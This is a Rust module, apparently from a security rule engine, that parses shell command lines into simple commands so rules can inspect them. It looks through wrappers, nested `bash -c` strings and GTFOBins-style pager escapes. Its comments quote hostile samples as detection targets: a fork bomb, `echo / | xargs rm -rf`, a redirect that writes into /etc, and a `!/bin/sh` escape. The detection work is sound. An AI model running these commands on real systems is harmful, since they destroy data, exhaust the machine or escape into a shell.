//! A command line or script as the rules see it: every simple command that would run, with its
//! arguments unquoted, its redirections, and where it sits (pipeline, substitution, a string
//! handed to `bash -c`), after looking through wrappers such as `sudo`, `env` and `xargs`.
//!
//! Parsing is brush's bash parser. What bash itself would refuse (a GTFOBins recipe that
//! continues inside the program it opened, say) is split into lines and each line is parsed on
//! its own; a line that still does not parse becomes one command of its blank-separated words,
//! so the rules always see something.

use brush_parser::ast;
use brush_parser::word::{WordPiece, WordPieceWithSource};
use brush_parser::{Parser, ParserOptions};

/// Nested strings (`bash -c`, `eval`, substitutions) are followed this deep.
const MAX_DEPTH: u8 = 6;

/// Text nested deeper than this (brackets, braces, substitutions) is not given to the parser,
/// whose recursion would exhaust the thread's stack, but read word by word. No command needs
/// such nesting; the rules call it out.
pub const MAX_NESTING: usize = 48;

/// The deepest nesting of `(` and `{` in `text`, outside single quotes.
pub fn nesting(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    let (mut single, mut double, mut escaped) = (false, false, false);
    for c in text.chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '(' | '{' if !single => {
                depth += 1;
                max = max.max(depth);
            }
            ')' | '}' if !single => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

/// A byte range `[start, end)` in the checked text.
pub type Span = (usize, usize);

/// Where a command sits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// Typed as is.
    Top,
    /// Inside `$(…)`, backquotes or `<(…)`.
    Substitution,
    /// A string another program runs as a command line (`bash -c`, `eval`, `find -exec`, …).
    Nested,
    /// A line typed inside the program opened before it (`!/bin/sh` after `less`).
    Escape,
}

/// One word of a command, quotes removed.
#[derive(Debug, Clone)]
pub struct Arg {
    /// The text as the program receives it (expansions left as written, e.g. `$HOME`).
    pub text: String,
    /// Where it is in the checked text.
    pub span: Span,
}

/// What a redirection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirKind {
    /// `<`
    Read,
    /// `>`, `>|`, `&>`
    Write,
    /// `>>`, `&>>`
    Append,
    /// `<>`
    ReadWrite,
    /// `>&`, `<&`: duplicating a descriptor.
    Dup,
    /// `<<` (the target is the document's text) or `<<<`.
    Here,
}

/// One redirection of a command.
#[derive(Debug, Clone)]
pub struct Redir {
    /// What it does.
    pub kind: RedirKind,
    /// The descriptor, when given.
    pub fd: Option<i32>,
    /// The file, descriptor or document.
    pub target: String,
    /// Where it is.
    pub span: Span,
}

/// One simple command.
#[derive(Debug, Clone)]
pub struct Cmd {
    /// The program's base name (`sh` for `/bin/sh`), after the wrappers; empty for a bare
    /// assignment or redirection.
    pub name: String,
    /// The program as written.
    pub program: String,
    /// Its arguments.
    pub args: Vec<Arg>,
    /// Wrappers looked through, outermost first (`sudo`, `env`, `xargs`, …).
    pub wrappers: Vec<String>,
    /// The wrappers' own options (`-a /dev/null` of `xargs -a /dev/null id`).
    pub wrapper_options: Vec<String>,
    /// `NAME=value` words before the program (its environment).
    pub assignments: Vec<(String, String)>,
    /// Its redirections.
    pub redirs: Vec<Redir>,
    /// Where the whole command is.
    pub span: Span,
    /// Which pipeline it belongs to, and its place in it (0 = first).
    pub pipeline: usize,
    /// Its place in its pipeline.
    pub stage: usize,
    /// The number of commands in its pipeline.
    pub stages: usize,
    /// Run in the background (`&`).
    pub background: bool,
    /// Where it sits.
    pub origin: Origin,
    /// Defined inside a function of this name.
    pub function: Option<String>,
    /// Inside a `for`, `while` or `until` loop.
    pub in_loop: bool,
}

impl Cmd {
    /// The argument texts.
    pub fn words(&self) -> impl Iterator<Item = &str> {
        self.args.iter().map(|a| a.text.as_str())
    }

    /// Whether an argument is exactly one of `flags`, or a short-flag cluster that holds one
    /// of the one-letter `flags` (`-rf` holds `-f`).
    pub fn has_flag(&self, flags: &[&str]) -> bool {
        self.args.iter().any(|a| {
            let t = a.text.as_str();
            flags.contains(&t)
                || (t.starts_with('-')
                    && !t.starts_with("--")
                    && t.len() > 2
                    && flags.iter().any(|f| {
                        f.len() == 2
                            && f.starts_with('-')
                            && !f.starts_with("--")
                            && t[1..].contains(&f[1..])
                    }))
        })
    }

    /// The value of an option: `-o X`, `-oX` (one-letter), `--out X`, `--out=X`.
    pub fn option_values<'a>(&'a self, names: &'a [&str]) -> impl Iterator<Item = &'a Arg> + 'a {
        self.args.iter().enumerate().filter_map(move |(i, a)| {
            for n in names {
                if a.text == *n {
                    return self.args.get(i + 1);
                }
            }
            None
        })
    }

    /// The operands: arguments that are not options (a `--` ends the options).
    pub fn operands(&self) -> Vec<&Arg> {
        let mut out = Vec::new();
        let mut options = true;
        for a in &self.args {
            if options && a.text == "--" {
                options = false;
            } else if !(options && a.text.starts_with('-') && a.text.len() > 1) {
                out.push(a);
            }
        }
        out
    }
}

/// A parsed command line or script.
#[derive(Debug, Default)]
pub struct Script {
    /// Every simple command, in order.
    pub commands: Vec<Cmd>,
    /// Names of the functions it defines.
    pub functions: Vec<String>,
    /// Lines bash would not parse (each was read as plain words).
    pub unparsed_lines: usize,
    /// Non-empty lines.
    pub lines: usize,
    /// The commands run from inside a function that calls itself in a background pipeline.
    pub fork_bomb: Option<Span>,
    /// A script rather than a command line: a `#!` line, or three lines or more.
    pub unattended: bool,
}

/// Parses `text`.
pub fn parse(text: &str) -> Script {
    let mut w = Walker {
        script: Script {
            lines: text.lines().filter(|l| !l.trim().is_empty()).count(),
            unattended: text.trim_start().starts_with("#!")
                || text.lines().filter(|l| !l.trim().is_empty()).count() >= 3,
            ..Script::default()
        },
        pipelines: 0,
        base: 0,
        source: text,
        function: None,
        in_loop: false,
    };
    w.text(text, 0, Origin::Top, 0);
    substitute_variables(&mut w.script.commands);
    feed_xargs(&mut w.script.commands);
    w.script
}

/// `echo / | xargs rm -rf`: the words echoed become the arguments of the command xargs runs.
fn feed_xargs(commands: &mut [Cmd]) {
    for i in 0..commands.len() {
        let c = &commands[i];
        if c.stage == 0 || !c.wrappers.iter().any(|w| w == "xargs") {
            continue;
        }
        let (pipeline, stage) = (c.pipeline, c.stage);
        let fed: Vec<Arg> = commands
            .iter()
            .filter(|o| o.pipeline == pipeline && o.stage + 1 == stage)
            .filter(|o| matches!(o.name.as_str(), "echo" | "printf"))
            .flat_map(|o| {
                o.args
                    .iter()
                    .filter(|a| !a.text.starts_with('-'))
                    .flat_map(|a| {
                        a.text
                            .split_whitespace()
                            .map(|t| Arg {
                                text: t.to_string(),
                                span: a.span,
                            })
                            .collect::<Vec<_>>()
                    })
                    .collect::<Vec<_>>()
            })
            .collect();
        commands[i].args.extend(fed);
    }
}

/// Replaces `$NAME` and `${NAME}` with the value a plain assignment earlier in the script gave
/// it (`LFILE=/etc/x; echo data > $LFILE`), in arguments, redirections and assignments.
fn substitute_variables(commands: &mut [Cmd]) {
    let mut env: Vec<(String, String)> = Vec::new();
    let expand = |env: &[(String, String)], s: &mut String| {
        if !s.contains('$') {
            return;
        }
        for (k, v) in env.iter().rev() {
            for pat in [format!("${{{k}}}"), format!("${k}")] {
                if s.contains(&pat) {
                    // `$K` must not be the start of a longer name.
                    let mut out = String::with_capacity(s.len());
                    let mut rest = s.as_str();
                    while let Some(i) = rest.find(&pat) {
                        let after = &rest[i + pat.len()..];
                        let longer = pat.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                            && after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
                        out.push_str(&rest[..i]);
                        out.push_str(if longer { &pat } else { v });
                        rest = after;
                    }
                    out.push_str(rest);
                    *s = out;
                }
            }
        }
    };
    for c in commands.iter_mut() {
        for a in &mut c.args {
            expand(&env, &mut a.text);
        }
        for r in &mut c.redirs {
            expand(&env, &mut r.target);
        }
        for (_, v) in &mut c.assignments {
            expand(&env, v);
        }
        if c.name.is_empty() {
            env.extend(c.assignments.iter().cloned());
        } else if matches!(
            c.name.as_str(),
            "export" | "declare" | "local" | "readonly" | "typeset"
        ) {
            for a in &c.args {
                if let Some((k, v)) = a.text.split_once('=') {
                    env.push((k.to_string(), v.to_string()));
                }
            }
        }
        if env.len() > 256 {
            env.drain(..128);
        }
    }
}

struct Walker<'s> {
    script: Script,
    pipelines: usize,
    /// Byte offset of the text being walked in the checked text.
    base: usize,
    /// The checked text.
    source: &'s str,
    function: Option<String>,
    in_loop: bool,
}

fn program(text: &str) -> Option<ast::Program> {
    if nesting(text) > MAX_NESTING {
        return None;
    }
    let options = ParserOptions::default();
    let mut parser = Parser::new(std::io::Cursor::new(text.as_bytes()), &options);
    parser.parse_program().ok()
}

/// The byte offset of a character index in `text`.
fn byte_at(text: &str, char_index: usize) -> usize {
    if text.is_ascii() {
        return char_index.min(text.len());
    }
    text.char_indices()
        .nth(char_index)
        .map_or(text.len(), |(i, _)| i)
}

impl Walker<'_> {
    /// Walks `text`, found at byte `base` of the checked text.
    fn text(&mut self, text: &str, base: usize, origin: Origin, depth: u8) {
        if depth > MAX_DEPTH || text.trim().is_empty() {
            return;
        }
        let saved = self.base;
        self.base = base;
        if let Some(p) = program(text) {
            self.program(&p, text, origin, depth);
        } else {
            // Line by line; a line after the first of a recipe may be typed into the program
            // the previous line opened.
            let mut offset = 0;
            for (n, line) in text.split_inclusive('\n').enumerate() {
                let start = base + offset;
                offset += line.len();
                if line.trim().is_empty() {
                    continue;
                }
                let origin = if n > 0 && origin == Origin::Top {
                    Origin::Escape
                } else {
                    origin
                };
                self.base = start;
                match program(line) {
                    Some(p) => self.program(&p, line, origin, depth),
                    None => {
                        self.script.unparsed_lines += 1;
                        self.plain_line(line, start, origin, depth);
                    }
                }
            }
        }
        self.base = saved;
    }

    /// A line bash refused, as one command of its blank-separated words (quotes dropped).
    fn plain_line(&mut self, line: &str, start: usize, origin: Origin, depth: u8) {
        let mut args = Vec::new();
        let mut word = String::new();
        let mut word_start = 0;
        let mut quote: Option<char> = None;
        for (i, c) in line.char_indices() {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), c) => word.push(c),
                (None, '\'' | '"') => {
                    if word.is_empty() {
                        word_start = i;
                    }
                    quote = Some(c);
                }
                (None, c) if c.is_whitespace() => {
                    if !word.is_empty() {
                        args.push(Arg {
                            text: std::mem::take(&mut word),
                            span: (start + word_start, start + i),
                        });
                    }
                }
                (None, c) => {
                    if word.is_empty() {
                        word_start = i;
                    }
                    word.push(c);
                }
            }
        }
        if !word.is_empty() {
            args.push(Arg {
                text: word,
                span: (start + word_start, start + line.len()),
            });
        }
        // `>file` and `> file` as redirections.
        let mut redirs = Vec::new();
        let mut k = 0;
        while k < args.len() {
            let t = args[k].text.clone();
            let (kind, rest) = if let Some(r) = t.strip_prefix(">>") {
                (RedirKind::Append, r)
            } else if let Some(r) = t.strip_prefix('>') {
                (RedirKind::Write, r)
            } else if let Some(r) = t.strip_prefix('<').filter(|r| !r.starts_with('<')) {
                (RedirKind::Read, r)
            } else {
                k += 1;
                continue;
            };
            let span = args[k].span;
            let target = if rest.is_empty() && k + 1 < args.len() {
                args.remove(k + 1).text
            } else {
                rest.to_string()
            };
            args.remove(k);
            redirs.push(Redir {
                kind,
                fd: None,
                target,
                span,
            });
        }
        if args.is_empty() && redirs.is_empty() {
            return;
        }
        let pipeline = self.next_pipeline();
        let span = (start, start + line.trim_end().len());
        self.simple(
            args,
            Vec::new(),
            redirs,
            span,
            pipeline,
            (0, 1),
            false,
            origin,
            depth,
        );
    }

    /// A command given as words (`find -exec CMD … ;`, a loop's values), alone in a pipeline.
    fn argv_command(&mut self, argv: Vec<Arg>, background: bool, origin: Origin, depth: u8) {
        let span = match (argv.first(), argv.last()) {
            (Some(a), Some(b)) => (a.span.0, b.span.1),
            _ => (self.base, self.base),
        };
        let id = self.next_pipeline();
        self.simple(
            argv,
            Vec::new(),
            Vec::new(),
            span,
            id,
            (0, 1),
            background,
            origin,
            depth,
        );
    }

    fn next_pipeline(&mut self) -> usize {
        self.pipelines += 1;
        self.pipelines
    }

    fn span(&self, text: &str, loc: Option<&brush_parser::SourceSpan>) -> Span {
        match loc {
            Some(l) => (
                self.base + byte_at(text, l.start.index),
                self.base + byte_at(text, l.end.index),
            ),
            None => (self.base, self.base + text.len()),
        }
    }

    fn program(&mut self, p: &ast::Program, text: &str, origin: Origin, depth: u8) {
        for cc in &p.complete_commands {
            self.list(cc, text, origin, depth);
        }
    }

    fn list(&mut self, list: &ast::CompoundList, text: &str, origin: Origin, depth: u8) {
        for ast::CompoundListItem(and_or, sep) in &list.0 {
            let background = matches!(sep, ast::SeparatorOperator::Async);
            self.pipeline(&and_or.first, text, origin, depth, background);
            for next in &and_or.additional {
                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
                self.pipeline(p, text, origin, depth, background);
            }
        }
    }

    fn pipeline(
        &mut self,
        p: &ast::Pipeline,
        text: &str,
        origin: Origin,
        depth: u8,
        background: bool,
    ) {
        let id = self.next_pipeline();
        let stages = p.seq.len();
        // `! cmd` on a line of its own is how a recipe escapes from a pager or editor.
        let origin = if p.bang && origin == Origin::Top {
            Origin::Escape
        } else {
            origin
        };
        for (stage, c) in p.seq.iter().enumerate() {
            self.command(c, text, origin, depth, id, (stage, stages), background);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn command(
        &mut self,
        c: &ast::Command,
        text: &str,
        origin: Origin,
        depth: u8,
        pipeline: usize,
        stage: (usize, usize),
        background: bool,
    ) {
        match c {
            ast::Command::Simple(s) => {
                self.simple_command(s, text, origin, depth, pipeline, stage, background)
            }
            ast::Command::Compound(cc, redirs) => {
                let before = self.script.commands.len();
                self.compound(cc, text, origin, depth, background);
                // Redirections of a group apply to each command in it.
                if let Some(r) = redirs {
                    let redirs: Vec<Redir> =
                        r.0.iter()
                            .map(|r| self.redir(r, text, origin, depth))
                            .collect();
                    for cmd in &mut self.script.commands[before..] {
                        cmd.redirs.extend(redirs.iter().cloned());
                    }
                }
                for cmd in &mut self.script.commands[before..] {
                    if cmd.stages == 1 && stage.1 > 1 {
                        cmd.pipeline = pipeline;
                        cmd.stage = stage.0;
                        cmd.stages = stage.1;
                    }
                }
            }
            ast::Command::Function(f) => {
                let name = f.fname.value.clone();
                self.script.functions.push(name.clone());
                let saved = self.function.replace(name.clone());
                let before = self.script.commands.len();
                self.compound(&f.body.0, text, origin, depth, false);
                self.function = saved;
                // A function that runs itself in a background pipeline: `:(){ :|:& };:`.
                let recursive_bg = self.script.commands[before..]
                    .iter()
                    .any(|c| c.name == name && c.stages > 1)
                    && self.script.commands[before..]
                        .iter()
                        .any(|c| c.name == name && c.background);
                if recursive_bg && self.script.fork_bomb.is_none() {
                    self.script.fork_bomb = Some(self.span(text, None));
                }
            }
            ast::Command::ExtendedTest(t, _) => self.test_expr(&t.expr, text, origin, depth),
        }
    }

    fn test_expr(&mut self, e: &ast::ExtendedTestExpr, text: &str, origin: Origin, depth: u8) {
        use ast::ExtendedTestExpr as E;
        match e {
            E::And(a, b) | E::Or(a, b) => {
                self.test_expr(a, text, origin, depth);
                self.test_expr(b, text, origin, depth);
            }
            E::Not(a) | E::Parenthesized(a) => self.test_expr(a, text, origin, depth),
            E::UnaryTest(_, w) => {
                self.word(w, text, origin, depth);
            }
            E::BinaryTest(_, a, b) => {
                self.word(a, text, origin, depth);
                self.word(b, text, origin, depth);
            }
        }
    }

    fn compound(
        &mut self,
        cc: &ast::CompoundCommand,
        text: &str,
        origin: Origin,
        depth: u8,
        background: bool,
    ) {
        use ast::CompoundCommand as C;
        let before = self.script.commands.len();
        match cc {
            C::Arithmetic(_) | C::ArithmeticForClause(_) => {}
            C::BraceGroup(b) => self.list(&b.list, text, origin, depth),
            C::Subshell(s) => self.list(&s.list, text, origin, depth),
            C::ForClause(f) => {
                // The values a loop walks are read like a command's operands.
                let values: Vec<Arg> = f
                    .values
                    .iter()
                    .flatten()
                    .map(|w| self.word(w, text, origin, depth))
                    .collect();
                if !values.is_empty() {
                    let mut argv = vec![Arg {
                        text: "for".to_string(),
                        span: values[0].span,
                    }];
                    argv.extend(values);
                    self.argv_command(argv, false, origin, depth);
                }
                let saved = std::mem::replace(&mut self.in_loop, true);
                self.list(&f.body.list, text, origin, depth);
                self.in_loop = saved;
            }
            C::CaseClause(c) => {
                self.word(&c.value, text, origin, depth);
                for item in &c.cases {
                    if let Some(l) = &item.cmd {
                        self.list(l, text, origin, depth);
                    }
                }
            }
            C::IfClause(i) => {
                self.list(&i.condition, text, origin, depth);
                self.list(&i.then, text, origin, depth);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, text, origin, depth);
                    }
                    self.list(&e.body, text, origin, depth);
                }
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                let saved = std::mem::replace(&mut self.in_loop, true);
                self.list(&w.0, text, origin, depth);
                self.list(&w.1.list, text, origin, depth);
                self.in_loop = saved;
            }
            C::Coprocess(c) => {
                let id = self.next_pipeline();
                self.command(&c.body, text, origin, depth, id, (0, 1), true);
            }
        }
        if background {
            for c in &mut self.script.commands[before..] {
                c.background = true;
            }
        }
    }

    /// The text of a word as the program receives it; walks its substitutions.
    fn word(&mut self, w: &ast::Word, text: &str, origin: Origin, depth: u8) -> Arg {
        let span = self.span(text, w.loc.as_ref());
        let value = w.value.as_str();
        let out = match brush_parser::word::parse(value, &ParserOptions::default()) {
            Ok(pieces) => {
                let mut s = String::with_capacity(value.len());
                self.pieces(&pieces, value, span.0, &mut s, origin, depth);
                s
            }
            Err(_) => brush_parser::unquote_str(value),
        };
        Arg { text: out, span }
    }

    fn pieces(
        &mut self,
        pieces: &[WordPieceWithSource],
        raw: &str,
        at: usize,
        out: &mut String,
        origin: Origin,
        depth: u8,
    ) {
        for p in pieces {
            let source = raw.get(p.start_index..p.end_index).unwrap_or("");
            match &p.piece {
                WordPiece::Text(t) | WordPiece::SingleQuotedText(t) => out.push_str(t),
                WordPiece::AnsiCQuotedText(t) => out.push_str(&ansi_c(t)),
                WordPiece::DoubleQuotedSequence(inner)
                | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(inner, raw, at, out, origin, depth)
                }
                WordPiece::TildeExpansion(_) => out.push('~'),
                WordPiece::EscapeSequence(e) => out.push_str(e.strip_prefix('\\').unwrap_or(e)),
                WordPiece::CommandSubstitution(cmd)
                | WordPiece::BackquotedCommandSubstitution(cmd) => {
                    out.push_str(source);
                    let origin = if origin == Origin::Top || origin == Origin::Escape {
                        Origin::Substitution
                    } else {
                        origin
                    };
                    self.text(cmd, at + p.start_index, origin, depth + 1);
                }
                WordPiece::ParameterExpansion(_) | WordPiece::ArithmeticExpression(_) => {
                    out.push_str(source)
                }
            }
        }
    }

    fn redir(&mut self, r: &ast::IoRedirect, text: &str, origin: Origin, depth: u8) -> Redir {
        use ast::{IoFileRedirectKind as K, IoFileRedirectTarget as T, IoRedirect as R};
        let whole = (self.base, self.base);
        match r {
            R::File(fd, kind, target) => {
                let kind = match kind {
                    K::Read => RedirKind::Read,
                    K::Write | K::Clobber => RedirKind::Write,
                    K::Append => RedirKind::Append,
                    K::ReadAndWrite => RedirKind::ReadWrite,
                    K::DuplicateInput | K::DuplicateOutput => RedirKind::Dup,
                };
                let (target, span) = match target {
                    T::Filename(w) | T::Duplicate(w) => {
                        let a = self.word(w, text, origin, depth);
                        (a.text, a.span)
                    }
                    T::Fd(n) => (n.to_string(), whole),
                    T::ProcessSubstitution(_, s) => {
                        self.list(&s.list, text, Origin::Substitution, depth + 1);
                        ("<(…)".to_string(), self.span(text, Some(&s.loc)))
                    }
                };
                // `>&file` writes to a file; `>&2` duplicates.
                let kind = if kind == RedirKind::Dup
                    && !target.chars().all(|c| c.is_ascii_digit() || c == '-')
                {
                    RedirKind::Write
                } else {
                    kind
                };
                Redir {
                    kind,
                    fd: *fd,
                    target,
                    span,
                }
            }
            R::HereDocument(fd, doc) => Redir {
                kind: RedirKind::Here,
                fd: *fd,
                target: doc.doc.value.clone(),
                span: self.span(text, doc.doc.loc.as_ref()),
            },
            R::HereString(fd, w) => {
                let a = self.word(w, text, origin, depth);
                Redir {
                    kind: RedirKind::Here,
                    fd: *fd,
                    target: a.text,
                    span: a.span,
                }
            }
            R::OutputAndError(w, append) => {
                let a = self.word(w, text, origin, depth);
                Redir {
                    kind: if *append {
                        RedirKind::Append
                    } else {
                        RedirKind::Write
                    },
                    fd: None,
                    target: a.text,
                    span: a.span,
                }
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn simple_command(
        &mut self,
        s: &ast::SimpleCommand,
        text: &str,
        origin: Origin,
        depth: u8,
        pipeline: usize,
        stage: (usize, usize),
        background: bool,
    ) {
        use ast::CommandPrefixOrSuffixItem as I;
        let mut args = Vec::new();
        let mut assignments = Vec::new();
        let mut redirs = Vec::new();
        let items = s
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .chain(s.suffix.iter().flat_map(|p| p.0.iter()));
        let mut name_pushed = s.word_or_name.is_none();
        let prefix_len = s.prefix.as_ref().map_or(0, |p| p.0.len());
        for (i, item) in items.enumerate() {
            if !name_pushed && i == prefix_len {
                if let Some(w) = &s.word_or_name {
                    args.push(self.word(w, text, origin, depth));
                }
                name_pushed = true;
            }
            match item {
                I::IoRedirect(r) => redirs.push(self.redir(r, text, origin, depth)),
                I::Word(w) => args.push(self.word(w, text, origin, depth)),
                I::AssignmentWord(a, w) => {
                    let value = match &a.value {
                        ast::AssignmentValue::Scalar(v) => self.word(v, text, origin, depth).text,
                        ast::AssignmentValue::Array(items) => items
                            .iter()
                            .map(|(_, v)| self.word(v, text, origin, depth).text)
                            .collect::<Vec<_>>()
                            .join(" "),
                    };
                    let name = match &a.name {
                        ast::AssignmentName::VariableName(n)
                        | ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
                    };
                    if args.is_empty() {
                        assignments.push((name, value));
                    } else {
                        // `declare x=…` and friends: an argument.
                        args.push(Arg {
                            text: format!("{name}={value}"),
                            span: self.span(text, w.loc.as_ref()),
                        });
                    }
                }
                I::ProcessSubstitution(_, sub) => {
                    self.list(&sub.list, text, Origin::Substitution, depth + 1);
                    args.push(Arg {
                        text: "<(…)".to_string(),
                        span: self.span(text, Some(&sub.loc)),
                    });
                }
            }
        }
        if !name_pushed && let Some(w) = &s.word_or_name {
            args.push(self.word(w, text, origin, depth));
        }
        let span = match (args.first(), args.last()) {
            (Some(a), Some(b)) => (a.span.0.min(b.span.0), a.span.1.max(b.span.1)),
            _ => (self.base, self.base + text.len()),
        };
        let mut cmd_assignments = assignments;
        let _ = &mut cmd_assignments;
        self.simple(
            args,
            cmd_assignments,
            redirs,
            span,
            pipeline,
            stage,
            background,
            origin,
            depth,
        );
    }

    /// Records one command, looking through wrappers and into the command lines it runs.
    #[allow(clippy::too_many_arguments)]
    fn simple(
        &mut self,
        mut args: Vec<Arg>,
        assignments: Vec<(String, String)>,
        redirs: Vec<Redir>,
        span: Span,
        pipeline: usize,
        (stage, stages): (usize, usize),
        background: bool,
        origin: Origin,
        depth: u8,
    ) {
        let mut wrappers = Vec::new();
        let mut wrapper_options = Vec::new();
        let mut assignments = assignments;
        // Look through wrappers: what runs is the command after them.
        while let Some(first) = args.first() {
            let name = base_name(&first.text).to_string();
            let Some(skip) = wrapper_operands(&name, &args) else {
                break;
            };
            // `env A=b cmd`: assignments after the wrapper.
            let mut rest = args.split_off(skip.min(args.len()));
            wrapper_options.extend(args.iter().skip(1).map(|a| a.text.clone()));
            while let Some(a) = rest.first() {
                match a.text.split_once('=') {
                    Some((k, v))
                        if name == "env"
                            && !k.is_empty()
                            && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') =>
                    {
                        assignments.push((k.to_string(), v.to_string()));
                        rest.remove(0);
                    }
                    _ => break,
                }
            }
            wrappers.push(name);
            if rest.is_empty() {
                // `sudo -i`, `xargs` alone, `chroot /x`: the wrapper runs a shell or nothing.
                break;
            }
            args = rest;
        }
        let (program, name) = match args.first() {
            Some(a) => (a.text.clone(), base_name(&a.text).to_string()),
            None if !wrappers.is_empty() => {
                let w = wrappers.pop().unwrap_or_default();
                (w.clone(), w)
            }
            None => (String::new(), String::new()),
        };
        // `!cmd` typed as a word: the escape of pagers, editors and debuggers.
        let origin = if program.starts_with('!') && program.len() > 1 && origin == Origin::Top {
            Origin::Escape
        } else {
            origin
        };
        let args_after: Vec<Arg> = if args.is_empty() {
            Vec::new()
        } else {
            args[1..].to_vec()
        };
        // Command lines this command runs: walk them as commands too.
        let nested = nested_command_lines(&name, &args_after);
        self.script.commands.push(Cmd {
            name,
            program,
            args: args_after,
            wrappers,
            wrapper_options,
            assignments,
            redirs,
            span,
            pipeline,
            stage,
            stages,
            background,
            origin,
            function: self.function.clone(),
            in_loop: self.in_loop,
        });
        for n in nested {
            match n {
                Nested::Text(t, at) => self.text(&t, at, Origin::Nested, depth + 1),
                Nested::Argv(argv) => {
                    self.argv_command(argv, background, Origin::Nested, depth + 1);
                }
            }
        }
        let _ = self.source;
    }
}

/// Decodes the escapes of a `$'…'` string.
fn ansi_c(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let mut chars = t.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('x') => {
                let mut v = 0u32;
                let mut n = 0;
                while n < 2 {
                    match chars.peek().and_then(|c| c.to_digit(16)) {
                        Some(d) => {
                            v = v * 16 + d;
                            chars.next();
                            n += 1;
                        }
                        None => break,
                    }
                }
                out.extend(char::from_u32(v));
            }
            Some(d @ '0'..='7') => {
                let mut v = d.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|c| c.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.extend(char::from_u32(v));
            }
            Some(other) => out.push(other),
            None => out.push('\\'),
        }
    }
    out
}

/// `/usr/bin/sh` → `sh`.
pub fn base_name(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// For a wrapper (a program that runs the command given after its own options), the index of
/// that command in `args` (`args[0]` is the wrapper). `None` when `args[0]` is not a wrapper
/// or runs no command given this way.
fn wrapper_operands(name: &str, args: &[Arg]) -> Option<usize> {
    // Options of each wrapper that take a value as the next word.
    let (valued, fixed_operands): (&[&str], usize) = match name {
        "sudo" => (
            &[
                "-u", "-g", "-C", "-h", "-p", "-r", "-t", "-U", "-D", "-R", "-T",
            ],
            0,
        ),
        "doas" => (&["-u", "-C"], 0),
        "env" => (
            &["-u", "-C", "--unset", "--chdir", "-S", "--split-string"],
            0,
        ),
        "nice" => (&["-n", "--adjustment"], 0),
        "ionice" => (&["-c", "-n", "--class", "--classdata"], 0),
        "nohup" | "setsid" | "unbuffer" | "rlwrap" | "command" | "builtin" | "exec" | "time"
        | "stdbuf" | "caffeinate" | "proxychains" | "proxychains4" | "torsocks" | "fakeroot"
        | "firejail" => (&["-a", "-o", "-f"], 0),
        "timeout" => (&["-s", "-k", "--signal", "--kill-after"], 1),
        "taskset" => (&[], 1),
        "chrt" => (&[], 1),
        "setarch" => (&[], 1),
        "chroot" => (&["--userspec", "--groups"], 1),
        "xargs" => (
            &[
                "-a",
                "-d",
                "-E",
                "-e",
                "-I",
                "-i",
                "-L",
                "-l",
                "-n",
                "-P",
                "-s",
                "--arg-file",
                "--delimiter",
                "--max-args",
                "--max-procs",
                "--max-chars",
                "--max-lines",
                "--replace",
                "--eof",
            ],
            0,
        ),
        "strace" | "ltrace" => (&["-o", "-e", "-p", "-s", "-u", "-E", "-a"], 0),
        "flock" => (&["-w", "-E", "--timeout", "--conflict-exit-code"], 1),
        "runuser" => (&["-u", "-g", "-G", "--user", "--group"], 0),
        "cpulimit" => (&["-l", "--limit", "-p", "-e"], 0),
        "busybox" | "toybox" => (&[], 0),
        "valgrind" | "perf" => (&[], 0),
        _ => return None,
    };
    // `command -v x` looks a name up; `taskset -p` and `ionice -p` act on a process.
    if (name == "command" || name == "builtin")
        && args.iter().any(|a| a.text == "-v" || a.text == "-V")
    {
        return None;
    }
    if (name == "taskset" || name == "ionice" || name == "cpulimit")
        && args.iter().any(|a| a.text == "-p" || a.text == "--pid")
    {
        return None;
    }
    // `perf stat CMD`: a subcommand first.
    let mut i = if name == "perf" { 2 } else { 1 };
    while i < args.len() {
        let t = args[i].text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if !t.starts_with('-') || t.len() == 1 {
            break;
        }
        if valued.contains(&t) {
            i += 1;
        }
        i += 1;
    }
    Some(i + fixed_operands)
}

enum Nested {
    /// A command line as one string (`bash -c STR`).
    Text(String, usize),
    /// A command as words (`find -exec CMD … ;`).
    Argv(Vec<Arg>),
}

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish", "rbash", "yash",
    "posh", "busybox", "elvish", "rc", "sash", "pwsh", "nu", "xonsh", "osh", "es", "ksh93",
    "pdksh", "oksh", "loksh", "hush", "msh",
];

/// Whether `name` is a shell.
pub fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

/// The commands of `find`'s `-exec CMD … ;` / `-exec CMD … {} +` (also `-execdir`, `-ok`,
/// `-okdir`) among its arguments: the index of each `-exec` word and the command's words.
pub fn find_exec_commands(args: &[Arg]) -> Vec<(usize, &[Arg])> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if matches!(
            args[i].text.as_str(),
            "-exec" | "-execdir" | "-ok" | "-okdir"
        ) {
            let start = i + 1;
            let mut end = start;
            while end < args.len() && args[end].text != ";" && args[end].text != "+" {
